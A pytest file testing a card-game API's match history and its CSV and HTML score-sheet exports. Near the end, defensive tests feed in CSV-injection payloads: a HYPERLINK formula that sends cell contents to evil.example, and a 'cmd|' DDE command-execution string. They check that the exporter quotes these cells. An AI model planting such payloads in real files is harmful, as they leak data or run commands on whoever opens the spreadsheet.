"""A match's history and score sheet (API.md): derived figures, bonuses, links, warnings."""

from __future__ import annotations

import csv
import io
import random
import uuid
from typing import Any

import pytest
from rest_framework.test import APIClient

from games.play import services
from games.rules.base import Move
from games.rules.tarot.cards import PACK
from tests.conformance import record
from tests.play import play_out

pytestmark = pytest.mark.django_db


def sheet_match(api: APIClient, totals: list[int], **ruleset: Any) -> str:
    body = {"format": "scarney-solitaire", "players": [{"name": "Sid"}], "entry": "sheet"}
    match = api.post("/api/v1/matches/", {**body, "ruleset": ruleset}, format="json").json()
    for total in totals:
        event = {"id": str(uuid.uuid4()), "type": "game.scored", "data": {"scores": [total]}}
        answer = api.post(f"/api/v1/matches/{match['id']}/events/", event, format="json")
        assert answer.status_code == 201, answer.json()
    return str(match["id"])


def test_the_history_lists_every_game_with_its_cumulative_score_and_its_warnings(
    api: APIClient,
) -> None:
    match = sheet_match(api, [116, 45, 94], sheet_entry_validation="lenient")
    history = api.get(f"/api/v1/matches/{match}/history/").json()
    assert [(g["number"], g["scores"], g["cumulative"]) for g in history["games"]] == [
        (1, [116], [116]),
        (2, [45], [161]),
        (3, [94], [255]),
    ]
    assert [g["game"] for g in history["games"]] == [None, None, None]
    assert history["games"][0]["warnings"] == [] and history["games"][2]["warnings"] == []
    (warning,) = history["games"][1]["warnings"]
    assert warning["code"] == "score.unattainable" and "45" in warning["message"]
    assert history["warnings"] == [warning]
    assert history["standing"][0]["match_score"] == 255 and history["settlement"] is None


def test_the_score_sheet_renders_as_csv_and_html_with_the_warnings(api: APIClient) -> None:
    match = sheet_match(api, [116, 45], sheet_entry_validation="lenient")
    answer = api.get(f"/api/v1/matches/{match}/score-sheet.csv")
    assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(answer.content.decode())))
    assert ["Event", "Club match"] in rows and ["Venue", "the club"] in rows
    rows = rows[rows.index([]) + 1 :]  # the table, under the sheet's heading
    assert rows[0] == ["Game", "Sid", "Warnings"]
    assert rows[1] == ["1", "116 - 116", ""]
    assert rows[2][:2] == ["2", "45 - 161"] and rows[2][2].startswith("score.unattainable: ")
    assert ["Match score", "161"] in rows and ["Total", "161"] in rows
    page = api.get(f"/api/v1/matches/{match}/score-sheet.html")
    assert page.status_code == 200 and page["Content-Type"].startswith("text/html")
    html = page.content.decode()
    assert "116 &ndash; 116" in html and "45 &ndash; 161" in html
    assert "Warning, game 2" in html and "score.unattainable" in html


def test_live_games_link_to_their_streams_and_carry_their_bonuses(
    api: APIClient, django_capture_on_commit_callbacks: Any
) -> None:
    match = services.match_start(format="scarney-solitaire", players=[{"name": "Liv"}])
    rng = random.Random(11)
    with django_capture_on_commit_callbacks(execute=True):
        games = []
        for _ in range(5):
            game = services.game_start(kind="scarney-solitaire", seats=None, match_id=match.pk)
            games.append((game.pk, play_out(game.pk, rng, undo_rate=0)))
    history = api.get(f"/api/v1/matches/{match.pk}/history/").json()
    for row, (game_id, folded) in zip(history["games"], games, strict=True):
        assert row["game"] == str(game_id) and row["url"] == f"/api/v1/games/{game_id}/"
        expected = [
            {"seat": 0, "kind": b.kind, "points": b.points}
            for b in folded.engine.rules.scores(folded.state)[0].bonuses
        ]
        assert row["bonuses"] == expected
    assert history["rating"] is not None


def play_manchester_hand(game_id: uuid.UUID, rng: random.Random) -> None:
    """A Piccadilly hand of random legal moves; part two's stock dealt as hands."""
    pack = list(PACK)
    rng.shuffle(pack)
    folded = record(game_id, Move("cards.dealt", {"pack": pack}))
    rules = folded.engine.rules
    while not rules.is_terminal(folded.state):
        legal = rules.legal_events(folded.state)
        if legal is None:  # part two: the set-aside cards, shuffled and dealt
            stock = list(folded.state.stock)
            rng.shuffle(stock)
            hands = [[stock[0:13], stock[13:26]], [stock[26:39], stock[39:52]]]
            move = Move("cards.dealt", {"hands": hands})
        else:
            move = rng.choice(legal)
        folded = record(game_id, move)


def test_a_manchester_match_shows_each_hand_sheet_in_its_games_and_its_history(
    api: APIClient, user: Any, django_capture_on_commit_callbacks: Any
) -> None:
    kind = "manchester-piccadilly"
    match = services.match_start(format=kind, players=[{"name": "Pic"}, {"name": "Cad"}])
    rng = random.Random(20)
    games = []
    with django_capture_on_commit_callbacks(execute=True):
        for _ in range(2):
            game = services.game_start(kind=kind, seats=None, match_id=match.pk)
            play_manchester_hand(game.pk, rng)
            games.append(game.pk)
    history = api.get(f"/api/v1/matches/{match.pk}/history/").json()
    assert history["status"] == "settled"
    for row, game_id in zip(history["games"], games, strict=True):
        game = api.get(f"/api/v1/games/{game_id}/").json()
        sheet = game["hand_sheet"]
        assert sheet["game_points"] == [s["total"] for s in game["scores"]] == row["scores"]
        assert len(sheet["first"]) == len(sheet["second"]) == len(sheet["hand_totals"]) == 2
        assert row["game"] == str(game_id) and row["hand_sheet"] == sheet
    players = [{"name": "Pic"}, {"name": "Cad"}]
    # the reader records in it: a match in progress is read by its recorders only
    sheet_match = services.match_start(format=kind, players=players, entry="sheet", user=user)
    record(sheet_match.pk, Move("game.scored", {"scores": [0, 9]}))
    (row,) = api.get(f"/api/v1/matches/{sheet_match.pk}/history/").json()["games"]
    assert row["scores"] == [0, 9] and row["hand_sheet"] is None


def test_reports_of_an_unknown_match_or_of_a_game_are_not_found(api: APIClient) -> None:
    game = api.post(
        "/api/v1/games/", {"kind": "scarney-solitaire", "seats": [{"name": "G"}]}, format="json"
    ).json()
    for url in (
        f"/api/v1/matches/{uuid.uuid4()}/history/",
        f"/api/v1/matches/{game['id']}/history/",
        f"/api/v1/matches/{uuid.uuid4()}/score-sheet.csv",
        f"/api/v1/matches/{game['id']}/score-sheet.html",
    ):
        assert api.get(url).status_code == 404, url


def test_an_unfinished_match_needs_a_login_to_be_read(api: APIClient, anon: APIClient) -> None:
    match = sheet_match(api, [116])
    answer = anon.get(f"/api/v1/matches/{match}/score-sheet.csv")
    assert answer.status_code == 401


def test_the_csv_sheet_never_hands_a_spreadsheet_a_formula(api: APIClient) -> None:
    # given a player named like a formula (names are free text typed at the table)
    name = '=HYPERLINK("http://evil.example/?"&A1,"Sid")'
    body = {"format": "scarney-solitaire", "players": [{"name": name}], "entry": "sheet"}
    match = api.post("/api/v1/matches/", body, format="json").json()
    event = {"id": str(uuid.uuid4()), "type": "game.scored", "data": {"scores": [116]}}
    assert (
        api.post(f"/api/v1/matches/{match['id']}/events/", event, format="json").status_code == 201
    )
    rows = list(
        csv.reader(
            io.StringIO(api.get(f"/api/v1/matches/{match['id']}/score-sheet.csv").content.decode())
        )
    )
    rows = rows[rows.index([]) + 1 :]  # the table, under the sheet's heading
    assert rows[0] == ["Game", "'" + name, "Warnings"]  # shown as text, never evaluated
    assert rows[1] == ["1", "116 - 116", ""]


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_that_a_spreadsheet_would_evaluate_is_quoted(lead: str) -> None:
    from scoring.documents.reports import score_sheet_csv

    text = f"{lead}1+cmd|' /C calc'!A0"
    history = {
        "players": [{"name": text}, {"name": "Bo"}],
        "games": [
            {
                "number": 1,
                "scores": [-5, 12],
                "cumulative": [-5, 12],
                "warnings": [{"code": "score.x", "message": "m"}],
            }
        ],
        "standing": [{"seat": 0, "total": -5}, {"seat": 1, "total": 12}],
        "settlement": {"payments": [{"from": 0, "to": 1, "points": 17}]},
    }
    rows = list(csv.reader(io.StringIO(score_sheet_csv(history), newline="")))
    assert rows[0] == ["Game", "'" + text, "Bo", "Warnings"]
    assert rows[1] == ["1", "'-5 - -5", "12 - 12", "score.x: m"]
    assert ["Total", "-5", "12"] in rows  # a number is a number, not a formula
    assert ["Pays", f"'{text} pays Bo 17"] in rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == "-5"
